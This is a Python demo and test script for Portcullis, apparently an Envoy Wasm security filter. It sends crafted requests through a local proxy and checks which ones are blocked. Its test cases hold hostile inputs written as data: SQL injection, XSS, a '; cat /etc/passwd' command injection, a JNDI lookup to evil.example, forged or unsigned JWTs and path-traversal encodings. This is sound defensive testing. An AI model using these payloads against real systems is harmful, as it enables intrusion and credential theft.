#!/usr/bin/env python3
"""Envoy with Portcullis in front of a small service, and real requests of every kind through it.

    demo.py               sends the requests, says what became of each, exits 0 only if all is as it must be
    demo.py --serve       keeps everything running, with curl lines to copy
    demo.py --container   sends the requests to Envoy in a container (podman or docker)

Environment: PORTCULLIS_WASM (the module), ENVOY (Envoy's binary). `make demo` and `make run` set both.
"""

import hmac
import http.client
import json
import os
import queue
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from dataclasses import dataclass, field
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import jwt
import yaml

HERE = Path(__file__).resolve().parent
HOST = "api.example.com"
SECRETS = {
    "JWT_SECRET_KEY": "demo-jwt-secret-0123456789-0123456789-abcdef",
    "SERVICE_SECRET_KEY": "demo-service-secret-0123456789-abcdef",
    "ORDER_SERVICE_TOKEN": "demo-order-service-token",
}


# The service behind the proxy.


class Service(BaseHTTPRequestHandler):
    """Answers with what it was sent, so that one can see what the proxy let through."""

    protocol_version = "HTTP/1.1"

    def answer(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        if self.headers.get("transfer-encoding") == "chunked":
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
        seen = {"path": self.path, "headers": dict(self.headers.items()), "body_bytes": len(body)}
        reply = json.dumps(seen).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(reply)))
        self.end_headers()
        self.wfile.write(reply)

    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = answer

    def log_message(self, *_):
        pass


# The proxy.


class Proxy:
    """Envoy, from envoy.yaml with portcullis.yaml in it; its events arrive in `events` by request id."""

    def __init__(self, service_port, container):
        self.port, self.admin_port = port_or_free(10000), port_or_free(9901)
        self.directory = tempfile.TemporaryDirectory(prefix="portcullis-demo-")
        self.log = Path(self.directory.name) / "envoy.log"
        self.events, self.arrived = {}, queue.Queue()
        bootstrap = Path(self.directory.name) / "envoy.json"
        bootstrap.write_text(json.dumps(self._bootstrap(service_port, container)))
        settings = ["--concurrency", "2", "--log-level", "warning", "--component-log-level", "wasm:info",
                    "--file-flush-interval-msec", "20"]
        if container:
            secrets = [argument for name in SECRETS for argument in ("--env", name)]
            command = [str(HERE.parents[1] / ".ci/container"), str(bootstrap), *secrets, "--", *settings]
        else:
            command = [variable("ENVOY"), "--config-path", str(bootstrap), "--disable-hot-restart", *settings]
        passed_on = {name: os.environ[name] for name in ("PATH", "HOME", "XDG_RUNTIME_DIR") if name in os.environ}
        self.process = subprocess.Popen(
            command,
            stdout=subprocess.PIPE,
            stderr=self.log.open("wb"),
            env={**passed_on, **SECRETS},
            start_new_session=True,  # Ctrl-C is ours to handle
        )
        threading.Thread(target=self._read_events, daemon=True).start()

    def _bootstrap(self, service_port, container):
        bootstrap = yaml.safe_load((HERE / "envoy.yaml").read_text())
        bootstrap["admin"]["address"]["socket_address"]["port_value"] = self.admin_port
        [listener] = bootstrap["static_resources"]["listeners"]
        listener["address"]["socket_address"]["port_value"] = self.port
        [cluster] = bootstrap["static_resources"]["clusters"]
        [endpoint] = cluster["load_assignment"]["endpoints"][0]["lb_endpoints"]
        endpoint["endpoint"]["address"]["socket_address"]["port_value"] = service_port
        plugin = listener["filter_chains"][0]["filters"][0]["typed_config"]["http_filters"][0]["typed_config"]["config"]
        if not container:
            plugin["vm_config"]["code"]["local"]["filename"] = variable("PORTCULLIS_WASM")
        plugin["configuration"]["value"] = yaml.safe_load((HERE / "portcullis.yaml").read_text())
        return bootstrap

    def _read_events(self):
        for line in self.process.stdout:
            self.arrived.put(json.loads(line))

    def wait_until_it_serves(self):
        deadline = time.monotonic() + 60
        while True:
            try:
                if self.admin("/ready").strip() == "LIVE":
                    return
            except OSError:
                pass
            if self.process.poll() is not None or time.monotonic() > deadline:
                sys.exit("Envoy did not start:\n" + "\n".join(self.log.read_text().splitlines()[-15:]))
            time.sleep(0.05)

    def events_of(self, request_id, wanted):
        """The events of one request; waits a little until there are as many as `wanted`."""
        deadline = time.monotonic() + 2
        while len(self.events.get(request_id, [])) < wanted and time.monotonic() < deadline:
            try:
                event = self.arrived.get(timeout=0.05)
            except queue.Empty:
                continue
            self.events.setdefault(event["details"].get("request_id"), []).append(event)
        return self.events.get(request_id, [])

    def admin(self, path):
        with urllib.request.urlopen(f"http://127.0.0.1:{self.admin_port}{path}", timeout=5) as reply:
            return reply.read().decode()

    def close(self):
        self.process.terminate()
        try:
            self.process.wait(5)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        self.directory.cleanup()


def variable(name):
    path = os.environ.get(name, "")
    if not Path(path).is_file():
        sys.exit(f"{name} must be the path of a file; it is {path!r}. `make demo` sets it.")
    return str(Path(path).resolve())


def port_or_free(port):
    for candidate in (port, 0):
        with socket.socket() as probe:
            # As Envoy does: what an earlier run left in TIME_WAIT keeps no port.
            probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                probe.bind(("127.0.0.1", candidate))
            except OSError:
                continue
            return probe.getsockname()[1]
    sys.exit("there is no free port on the loopback")


# Credentials.


def token(key=SECRETS["JWT_SECRET_KEY"], algorithm="HS256", lifetime=3600, **changes):
    now = int(time.time())
    claims = {
        "iss": "https://auth.example.com", "aud": "microservices-api", "iat": now + min(lifetime, 0) - 60,
        "exp": now + lifetime, "type": "access", "user_id": "42", "email": "ann@example.com", "roles": ["user"],
        "is_active": True,
    } | changes
    return jwt.encode(claims, None if algorithm == "none" else key, algorithm=algorithm)


def bearer(*arguments, **changes):
    return [("Authorization", "Bearer " + token(*arguments, **changes))]


def signature(key=SECRETS["SERVICE_SECRET_KEY"], age=0):
    """What a plain Python service computes."""
    name, shared, timestamp = "order-service", SECRETS["ORDER_SERVICE_TOKEN"], str(time.time() - age)
    signed = hmac.new(key.encode(), f"{name}:{timestamp}:{shared}".encode(), sha256).hexdigest()
    return [("X-Service-Name", name), ("X-Service-Token", shared), ("X-Timestamp", timestamp), ("X-Signature", signed)]


# The requests.


@dataclass
class Try:
    """One request, and what must become of it."""

    what: str
    status: int
    reason: str = ""                 # the reason code in the event
    event: str = ""
    method: str = "GET"
    path: str = "/api/v1/users/7"
    headers: list = field(default_factory=list)
    body: bytes = b""
    upstream: dict = field(default_factory=dict)      # what the service must have seen: header or "path" -> value
    answer: dict = field(default_factory=dict)        # what the client must have got: header -> part of its value
    details: dict = field(default_factory=dict)       # what the event must say beside the reason


def json_body(comment, size):
    rows = ["please select one or two seats; drop me a line" for _ in range(size // 50)]
    return json.dumps({"rows": rows, "comment": comment}).encode()


def tries():
    """The requests, each group with a user of its own so that no limit is met by chance."""
    json_type = [("Content-Type", "application/json")]
    post = {"method": "POST", "path": "/api/v1/users"}
    challenge = {"www-authenticate": "Bearer"}
    sql = "1' UNION SELECT login, secret FROM staff-- "

    unknown, denied, limited = "AUTH_FAILURE", "ACCESS_DENIED", "RATE_LIMITED"
    suspicious, sensitive = "SUSPICIOUS_REQUEST", "SENSITIVE_ACCESS"

    yield "Who is calling"
    yield Try("a public route, no token", 200, path="/health")
    yield Try("a good token", 200, headers=bearer(),
              upstream={"x-auth-subject": "42", "x-auth-roles": "user", "authorization": None})
    yield Try("a good token in a cookie", 200, headers=[("Cookie", "a=1; access_token=" + token(user_id="43"))],
              upstream={"x-auth-subject": "43", "cookie": "a=1"})
    for what, reason, headers in [
        ("no token", "missing", []),
        ("a token that is none", "malformed", [("Authorization", "Bearer garbage")]),
        ("a token of yesterday", "expired", bearer(lifetime=-3600)),
        ("a token under a forged signature", "bad_signature", bearer("somebody-elses-secret-0123456789-abc")),
        ("a token without a signature", "malformed", bearer(algorithm="none")),
        ("a token of another issuer", "unknown_issuer", bearer(iss="https://evil.example.com")),
        ("a token for another service", "wrong_audience", bearer(aud="another-api")),
        ("a refresh token", "wrong_type", bearer(type="refresh")),
        ("a token that is valid for a year", "too_long_lived", bearer(lifetime=365 * 86400)),
        ("a token of nobody", "no_subject", bearer(user_id="")),
        ("a token of a closed account", "inactive", bearer(is_active=False)),
        ("two different tokens", "ambiguous", bearer() + [("Cookie", "access_token=" + token(user_id="43"))]),
    ]:
        yield Try(what, 401, reason, unknown, headers=headers, answer=challenge)

    yield "Services that sign"
    yield Try("a good service signature", 200, headers=signature(),
              upstream={"x-auth-subject": "order-service", "x-service-token": None})
    yield Try("a forged service signature", 401, "bad_service_signature", unknown, headers=signature(key="forged"))
    yield Try("a service signature of ten minutes ago", 401, "timestamp_too_old", unknown, headers=signature(age=600))

    yield "May they"
    admin = bearer(user_id="1", roles=["admin"])
    yield Try("an admin at /admin", 200, "", sensitive, path="/admin/settings", headers=admin)
    yield Try("a user at /admin", 403, "forbidden", denied, path="/admin/settings", headers=bearer(user_id="44"))
    yield Try("a path that no route knows", 403, "no_route", denied, path="/internal", headers=bearer(user_id="44"))
    yield Try("a role by inheritance", 200, headers=bearer(user_id="45", roles=["manager"]) + json_type, **post)

    yield "Tricks"
    yield Try("//admin/./x by a user", 403, "forbidden", denied, path="//admin/./x", headers=bearer(user_id="46"),
              details={"path": "/admin/x"})
    yield Try("/public/%2e%2e/admin/x by an admin", 200, "", sensitive, path="/public/%2e%2e/admin/x",
              headers=admin, upstream={"path": "/admin/x"})
    yield Try("/public/..%2fadmin", 400, "*", suspicious, path="/public/..%2fadmin")
    yield Try("/public/%252e%252e/admin", 400, "*", suspicious, path="/public/%252e%252e/admin")
    yield Try("a forged identity header", 200,
              headers=bearer(user_id="47") + [("X-Auth-Subject", "1"), ("X-Auth-Roles", "admin")],
              upstream={"x-auth-subject": "47", "x-auth-roles": "user"})
    yield Try("a forged X-Forwarded-For", 401, "missing", unknown, headers=[("X-Forwarded-For", "10.0.0.1")],
              details={"ip_address": "127.0.0.1"})
    yield Try("bytes that are no text", 200, path="/public/a", headers=[("User-Agent", b"\xff\xfe")])

    yield "How often: 5 in 2 seconds"
    burst = bearer(user_id="48")
    for n in range(1, 6):
        yield Try(f"request {n} at once", 200, headers=burst, answer={"ratelimit": f"r={5 - n}"})
    for n in range(6, 9):
        yield Try(f"request {n} at once", 429, "rate_limit", limited, headers=burst, answer={"retry-after": ""})

    yield "Is it safe"
    user = lambda n: bearer(user_id=f"inspected-{n}") + json_type
    yield Try("300 KB of good JSON", 200, headers=user(1), body=json_body("it's O'Brien's <3", 300_000), **post)
    yield Try("SQL deep in 300 KB of JSON", 403, "injection", suspicious, headers=user(1),
              body=json_body(sql, 300_000), details={"class": "sqli", "parameter": "*"}, **post)
    yield Try("SQL in the query", 403, "injection", suspicious, headers=user(2),
              path="/api/v1/users/7?q=1%27%20UNION%20SELECT%20login%2C%20secret%20FROM%20staff--%20",
              details={"class": "sqli"})
    yield Try("script in a cookie", 403, "injection", suspicious,
              headers=user(2) + [("Cookie", "theme=%3Cscript%3Ealert(1)%3C/script%3E")], details={"class": "xss"})
    yield Try("a shell command in a form", 403, "injection", suspicious, body=b"name=x%3B+cat+%2Fetc%2Fpasswd",
              headers=bearer(user_id="inspected-3") + [("Content-Type", "application/x-www-form-urlencoded")],
              details={"class": "command"}, **post)
    yield Try("a JNDI lookup, only watched", 200, "injection", suspicious, headers=user(4),
              path="/api/v1/users/7?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
              details={"class": "template", "mode": "monitor"})
    yield Try("JSON that is none", 400, "*", suspicious, headers=user(5), body=b'{"a":', **post)
    yield Try("a body beyond 1 MiB", 413, "*", suspicious, headers=user(5), body=json_body("", 1_200_000), **post)

    yield "Browsers"
    preflight = [("Origin", "https://app.example.com"), ("Access-Control-Request-Method", "POST")]
    yield Try("a preflight without a token", 204, method="OPTIONS", headers=preflight,
              answer={"access-control-allow-origin": "https://app.example.com"})
    yield Try("a denial that the page may read", 401, "missing", unknown, headers=preflight[:1],
              answer={"access-control-allow-origin": "https://app.example.com", "x-frame-options": "DENY"})


def send(proxy, attempt):
    """The status, the headers and the body of the answer."""
    connection = http.client.HTTPConnection("127.0.0.1", proxy.port, timeout=20)
    try:
        connection.putrequest(attempt.method, attempt.path, skip_host=True, skip_accept_encoding=True)
        for name, value in [("Host", HOST), *attempt.headers]:
            connection.putheader(name, value)
        if attempt.body:
            connection.putheader("Content-Length", str(len(attempt.body)))
        try:
            connection.endheaders(attempt.body or None)
        except (BrokenPipeError, ConnectionResetError):
            pass  # answered before all of the body was sent
        reply = connection.getresponse()
        return reply.status, {name.lower(): value for name, value in reply.getheaders()}, reply.read()
    finally:
        connection.close()


def carry_out(proxy, attempt):
    """Sends one request: `(status, reason, event, faults)`."""
    status, headers, body = send(proxy, attempt)
    document = json.loads(body) if body else {}
    seen = {name.lower(): value for name, value in document.get("headers", {}).items()}
    request_id = document.get("request_id") or seen.get("x-request-id")
    events = proxy.events_of(request_id, 1 if attempt.event else 0)
    event = events[0] if events else {"event_type": "", "details": {}}
    details = event["details"]
    reason = details.get("reason", "")
    faults = []

    def must(what, is_, wanted):
        right = bool(is_) if wanted == "*" else is_ == wanted
        if not right:
            faults.append(f"{what} is {is_!r}, must be {wanted!r}")

    must("the status", status, attempt.status)
    must("the event", event["event_type"], attempt.event)
    must("the reason", reason, attempt.reason)
    for name, wanted in attempt.upstream.items():
        must(f"the service's {name}", document.get("path") if name == "path" else seen.get(name), wanted)
    for name, part in attempt.answer.items():
        if part not in headers.get(name, "\0"):
            faults.append(f"the answer's {name} is {headers.get(name)!r}, must hold {part!r}")
    for name, wanted in attempt.details.items():
        must(f"the event's {name}", details.get(name), wanted)
    if details.get("class"):
        reason += f": {details['class']} by {details.get('rule')} in {details.get('parameter') or details.get('in')}"
    if details.get("mode"):
        reason += f" ({details['mode']})"
    return status, reason, event["event_type"], faults


def demonstrate(proxy):
    started, sent, wrong = time.monotonic(), 0, 0
    print(f"\n{'':4}{'sent':38} {'status':8} {'event':20} why")
    for attempt in tries():
        if isinstance(attempt, str):
            print(f"\n{attempt}")
            continue
        status, reason, event, faults = carry_out(proxy, attempt)
        sent += 1
        wrong += bool(faults)
        print(f"{'!!' if faults else 'ok':4}{attempt.what:38} {status:<8} {event or '-':20} {reason}".rstrip())
        for fault in faults:
            print(f"      {fault}")
    print("\nMetrics, as /stats/prometheus shows them")
    ours = ("security_events_total", "auth_failures_total", "blocked_requests_total")
    lines = [line for line in proxy.admin("/stats/prometheus").splitlines() if line.startswith(ours)]
    for line in sorted(line for line in lines if not line.endswith(" 0")):
        print("    " + line)
    if not lines:
        wrong += 1
        print("!!  there are none")
    print(f"\n{sent} requests, {wrong} not as they must be, {time.monotonic() - started:.1f} s")
    return 1 if wrong else 0


def serve(proxy):
    url = f"http://127.0.0.1:{proxy.port}"
    good, admin, expired = token(), token(user_id="1", roles=["admin"]), token(lifetime=-3600)
    print(f"""
Portcullis guards {url}, administration and metrics: http://127.0.0.1:{proxy.admin_port}/stats/prometheus
The tokens are good for an hour. Security events appear below, one JSON line each. Ctrl-C ends it.

# A user's token, an admin's, one of yesterday:
export USER_TOKEN={good}
export ADMIN_TOKEN={admin}
export OLD_TOKEN={expired}

curl -i {url}/health
curl -i {url}/api/v1/users/7
curl -i {url}/api/v1/users/7 -H "Authorization: Bearer $USER_TOKEN"
curl -i {url}/api/v1/users/7 -H "Authorization: Bearer $OLD_TOKEN"
curl -i {url}/admin/x -H "Authorization: Bearer $USER_TOKEN"
curl -i {url}/admin/x -H "Authorization: Bearer $ADMIN_TOKEN"
curl -i --path-as-is {url}/public/..%2fadmin
curl -i {url}/api/v1/users/7 -H "Authorization: Bearer $USER_TOKEN" -H "X-Auth-Roles: admin"
curl -i "{url}/public/a?q=%3Cscript%3Ealert(1)%3C/script%3E"
curl -i {url}/api/v1/users -H "Authorization: Bearer $USER_TOKEN" -H 'Content-Type: application/json' \\
  -d '{{"name": "1 UNION SELECT password FROM users"}}'
for n in 1 2 3 4 5 6 7; do
  curl -s -o /dev/null -w '%{{http_code}}\\n' {url}/api/v1/users/7 -H "Authorization: Bearer $USER_TOKEN"
done
""", flush=True)
    while proxy.process.poll() is None:
        try:
            print(json.dumps(proxy.arrived.get(timeout=0.5)), flush=True)
        except queue.Empty:
            pass
    return "Envoy ended:\n" + "\n".join(proxy.log.read_text().splitlines()[-15:])


def main():
    if sys.argv[1:] not in ([], ["--serve"], ["--container"]):
        sys.exit(__doc__)
    serves, container = sys.argv[1:] == ["--serve"], sys.argv[1:] == ["--container"]
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    service = ThreadingHTTPServer(("127.0.0.1", 0), Service)
    threading.Thread(target=service.serve_forever, daemon=True).start()
    proxy = Proxy(service.server_port, container)
    try:
        proxy.wait_until_it_serves()
        return serve(proxy) if serves else demonstrate(proxy)
    except KeyboardInterrupt:
        print("\nended")
        return 0 if serves else 130
    finally:
        proxy.close()
        service.shutdown()
        service.server_close()


if __name__ == "__main__":
    sys.exit(main())
